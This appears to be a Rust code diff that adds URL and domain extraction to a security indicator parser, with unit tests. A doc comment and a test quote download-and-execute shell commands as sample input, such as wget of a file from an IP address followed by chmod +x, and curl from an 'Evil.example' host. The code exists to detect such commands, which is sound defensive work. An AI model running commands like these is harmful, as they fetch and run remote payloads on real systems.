@@ -200,6 +200,117 @@ pub fn hash_value(text: &str) -> Option<IndicatorValue> {
     }
 }
 
+/// Calls `found` with each http, https or ftp URL in `text`: from the scheme up to
+/// whitespace, a quote, an angle bracket, or the `;` and `|` that end a shell command
+/// (`wget http://a.example/x;sh x`), without trailing sentence punctuation. Text without
+/// `://` costs one search.
+pub fn for_each_url<'t>(text: &'t str, mut found: impl FnMut(&'t str)) {
+    let bytes = text.as_bytes();
+    let mut from = 0;
+    while let Some(at) = text[from..].find("://").map(|i| from + i) {
+        let end = bytes[at..]
+            .iter()
+            .position(|&b| is_chunk_separator(b) || b == b';' || b == b'|')
+            .map_or(bytes.len(), |n| at + n);
+        let scheme_start = bytes[..at]
+            .iter()
+            .rposition(|b| !b.is_ascii_alphabetic())
+            .map_or(0, |i| i + 1);
+        let scheme = &text[scheme_start..at];
+        let known = ["http", "https", "ftp"]
+            .iter()
+            .any(|s| scheme.eq_ignore_ascii_case(s));
+        let url =
+            text[scheme_start..end].trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '}']);
+        if known && url.len() > at - scheme_start + 3 {
+            found(url);
+        }
+        from = end.max(at + 3);
+    }
+}
+
+/// Calls `found` with each domain name standing on its own in `text`: dot-separated labels
+/// of letters, digits and `-`, the last one letters only (two or more, or an `xn--` name),
+/// between whitespace, quotes, brackets, `=`, `,` or `;`. A name glued to `/`, `@`, `:`
+/// or `_` is part of a longer token (a path, an address, a URL) and is not taken, and
+/// chunks holding a URL are left to [`for_each_url`]. A port after the name is allowed.
+pub fn for_each_domain<'t>(text: &'t str, mut found: impl FnMut(&'t str)) {
+    let bytes = text.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        // One chunk between whitespace, quotes and angle brackets.
+        if is_chunk_separator(bytes[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        let end = chunk_end(bytes, i);
+        i = end;
+        let chunk = &text[start..end];
+        if !chunk.contains('.') || chunk.contains("://") {
+            continue;
+        }
+        // Tokens of the chunk between the punctuation that may stand around a name.
+        let mut token_start = start;
+        for pos in start..=end {
+            if pos < end && !is_token_separator(bytes[pos]) {
+                continue;
+            }
+            let token = &text[token_start..pos];
+            token_start = pos + 1;
+            if let Some(name) = domain_token(token) {
+                found(name);
+            }
+        }
+    }
+}
+
+/// The domain name a token is, if it is one: trailing dots and a `:port` are dropped.
+fn domain_token(token: &str) -> Option<&str> {
+    let token = match token.rsplit_once(':') {
+        Some((name, port)) if parse_port(port).is_some() => name,
+        _ => token,
+    };
+    let name = token.trim_end_matches('.');
+    if name.len() < 4 || name.len() > 253 || !name.contains('.') {
+        return None;
+    }
+    let mut labels = name.split('.');
+    let tld = labels.next_back()?;
+    let tld_ok = (tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
+        || (tld.len() > 4 && tld[..4].eq_ignore_ascii_case("xn--"));
+    let label_ok = |l: &str| {
+        !l.is_empty()
+            && l.len() <= 63
+            && !l.starts_with('-')
+            && !l.ends_with('-')
+            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+    };
+    (tld_ok && label_ok(tld) && labels.all(label_ok)).then_some(name)
+}
+
+/// Where the chunk holding `pos` ends: at whitespace, a quote or an angle bracket.
+fn chunk_end(bytes: &[u8], pos: usize) -> usize {
+    bytes[pos..]
+        .iter()
+        .position(|&b| is_chunk_separator(b))
+        .map_or(bytes.len(), |n| pos + n)
+}
+
+fn is_chunk_separator(b: u8) -> bool {
+    b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b'<' | b'>')
+}
+
+/// Punctuation a domain name may stand between inside a chunk (`host=a.example,`,
+/// `(a.example)`). `:` is not one: a port is read with the name, and a name after a colon
+/// is glued to what comes before it.
+fn is_token_separator(b: u8) -> bool {
+    matches!(
+        b,
+        b'=' | b',' | b';' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'|'
+    )
+}
+
 fn is_word_byte(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
 }
@@ -304,6 +415,63 @@ mod tests {
             hashes(&format!("md5={md5} x{md5} {md5}0 dl/{sha1}")),
             [md5, sha1]
         );
+    }
+
+    fn urls(text: &str) -> Vec<&str> {
+        let mut out = Vec::new();
+        for_each_url(text, |u| out.push(u));
+        out
+    }
+
+    fn domains(text: &str) -> Vec<&str> {
+        let mut out = Vec::new();
+        for_each_domain(text, |d| out.push(d));
+        out
+    }
+
+    #[test]
+    fn takes_http_https_and_ftp_urls_up_to_whitespace_or_quote() {
+        assert_eq!(
+            urls(
+                "cd /tmp; wget http://101.254.149.145:6636/tdff;chmod +x tdff|curl -O 'HTTPS://Evil.example/a?b=1'"
+            ),
+            [
+                "http://101.254.149.145:6636/tdff",
+                "HTTPS://Evil.example/a?b=1"
+            ]
+        );
+        assert_eq!(
+            urls("see (ftp://files.example/x.bin). url=http://a.example/p,"),
+            ["ftp://files.example/x.bin", "http://a.example/p"]
+        );
+        // Other schemes, a bare `://` and a scheme glued to a word are not URLs we read.
+        assert!(urls("tcp://1.2.3.4:80 ssh:// x:// ://a.example").is_empty());
+        assert!(urls("no urls here, only evil.example").is_empty());
+    }
+
+    #[test]
+    fn takes_domains_standing_on_their_own() {
+        assert_eq!(
+            domains(
+                "Jun 21 11:17:33 demo-host.local sshd: query=Evil.Example. from a.b.evil.example:443,"
+            ),
+            ["demo-host.local", "Evil.Example", "a.b.evil.example"]
+        );
+        assert_eq!(
+            domains("(xn--bcher-kva.example) [mirror.example.org]"),
+            ["xn--bcher-kva.example", "mirror.example.org"]
+        );
+    }
+
+    #[test]
+    fn paths_versions_addresses_and_url_hosts_are_not_domains() {
+        assert!(
+            domains(
+                "/usr/lib/libc.so.6 ./backup_script.sh v6.4.7 1.2.3.4 root@evil.example                  evil.example/bins ns:evil.example http://evil.example/x 2001:db8::1 x.1a"
+            )
+            .is_empty()
+        );
+        assert!(domains("IV_VER=2.5 openvpn[30264]: 11:17:33.000").is_empty());
     }
 
     #[test]
